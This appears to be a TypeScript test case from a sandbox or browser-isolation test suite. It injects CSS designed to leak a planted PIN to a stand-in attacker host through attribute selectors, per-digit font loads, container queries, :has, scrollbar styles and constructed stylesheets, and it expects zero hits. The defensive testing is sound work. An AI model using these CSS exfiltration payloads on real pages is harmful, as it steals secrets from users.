import type { Attack } from '../attack.ts';

export const attack: Attack = {
  id: '100',
  group: 'exfiltration',
  title: 'spell a secret out by style: attribute selectors, fonts for single letters, scroll bars, container queries',
  expected: '0 hits',
  heardOnAnOrdinaryPage: true,
  async guest({ evil, pause }) {
    document.body.insertAdjacentHTML(
      'beforeend',
      '<input name="pin" value="4711"><p class="secret">4711</p><a href="#pin4711">x</a><div class="box"><i>x</i></div>',
    );
    const rules: string[] = [];
    for (let digit = 0; digit < 10; digit += 1) {
      rules.push(`input[value^="${digit}"]{background:url(${evil}/100/starts-${digit})}`);
      rules.push(`input[value*="${digit}"]~p{list-style:url(${evil}/100/holds-${digit}) inside;display:list-item}`);
      rules.push(`a[href$="${digit}"]::after{content:url(${evil}/100/ends-${digit})}`);
      rules.push(
        `@font-face{font-family:f;src:url(${evil}/100/letter-${digit});unicode-range:U+${(0x30 + digit).toString(16)}}`,
      );
    }
    rules.push(
      '.secret{font-family:f}',
      `.box{container-type:size;height:9px}@container (min-height:5px){i{background:url(${evil}/100/container)}}`,
    );
    rules.push(`:has(input[value="4711"]){border-image:url(${evil}/100/has) 1}`);
    rules.push(`::-webkit-scrollbar{background:url(${evil}/100/bar)}.secret{width:1px;height:1px;overflow:scroll}`);
    document.head.append(Object.assign(document.createElement('style'), { textContent: rules.join('\n') }));
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`p{cursor:url(${evil}/100/constructed),auto;background:url(${evil}/100/constructed-background)}`);
    document.adoptedStyleSheets = [sheet];
    await pause(800);
    return null;
  },
  judge: () => undefined,
};
